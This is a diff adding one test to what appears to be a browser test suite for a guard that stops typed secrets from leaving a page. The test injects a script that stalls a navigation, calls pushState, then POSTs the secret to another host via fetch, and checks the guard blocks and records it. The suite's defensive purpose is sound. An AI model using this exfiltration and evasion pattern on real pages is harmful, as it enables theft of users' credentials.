@@ -135,6 +135,20 @@ def test_a_request_that_carries_nothing_is_blocked_and_noted_once(
     assert other_host.requests == []
 
 
+def test_a_document_that_stays_while_another_is_awaited_does_not_end_the_guard(
+    window: Window, account: Account, other_host: OtherHost
+) -> None:
+    window.page.route("**/slow", lambda _: None)
+    send = f"fetch('{other_host.address}', {{method: 'POST', body: secret}})"
+    listen(
+        window, f"location = '/slow'; setTimeout(() => {{ history.pushState({{}}, '', '#'); {send} }}, 100)"
+    )
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
+    assert other_host.requests == []
+
+
 def test_the_next_document_of_the_court_may_send_what_it_likes(
     window: Window, account: Account, other_host: OtherHost
 ) -> None:
